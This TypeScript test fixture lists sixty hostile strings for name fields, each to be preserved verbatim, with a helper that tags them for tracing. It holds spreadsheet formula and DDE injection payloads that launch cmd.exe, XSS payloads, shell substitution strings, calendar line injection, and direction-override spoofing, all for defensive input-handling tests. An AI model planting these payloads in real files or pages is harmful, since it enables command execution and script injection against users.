/** Sixty texts nobody wants in a name: each must stay the text it is. */
const MARK = 'Zq';

export const HOSTILE: readonly string[] = [
  // formulas
  '=1+1', '=SUM(A1:A9)', '+1+1', '-1+1', '@SUM(A1)', '=HYPERLINK("http://example.invalid","x")',
  '=WEBSERVICE("http://example.invalid/"&A1)', '=IMPORTXML("http://example.invalid","//a")', '\t=1+1', '\r=1+1',
  '\n=1+1', '  =1+1', "'=1+1", '"=1+1"', '=1+1,=2+2', 'a,=1+1', 'a","=1+1', 'a\r\n=1+1', ';=1+1', '\u00a0=1+1',
  '＝1+1', '＋1', '－1', '＠SUM(A1)', '%0A=1+1', '{=1+1}', '=A1', '=$A$1:$Z$99', '=1/0', '#REF!',
  // programs called from cells
  "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")', '=MSEXCEL|\'\\..\\..\\..\\cmd.exe\'!A1',
  // markup
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<b>bold</b> & <i>more</i>', '&lt;&amp;&#0;', ']]>', '<!--',
  '<?xml version="1.0"?>', '${1+1} {{1+1}} `ls` $(ls)',
  // calendars
  'END:VEVENT\r\nBEGIN:VEVENT', 'a;b,c:d\\n\\e', 'X\nDTSTART:19700101T000000Z',
  // direction, width, halves, controls
  '\u202egpj.exe', '\u2066\u202dabc\u2069', '\u200f\u200eabc', 'zero\u200bwidth\ufeff', 'nul\u0000inside', '\u0000=1+1',
  'bell\u0007 escape\u001b[31m', 'half \ud800 pair', 'other half \udc00', 'not \ufffe\uffff characters', 'z\u0335\u0321\u0353a\u0337l\u0334g\u0336o',
  // length and shape
  `${'long '.repeat(8000)}`, 'x'.repeat(40_000),
]; // prettier-ignore

/** A text with a mark, so that it can be found again wherever it went. */
export const marked = (text: string, i: number): string =>
  `${text}${MARK}${String(i).padStart(2, '0')}`;
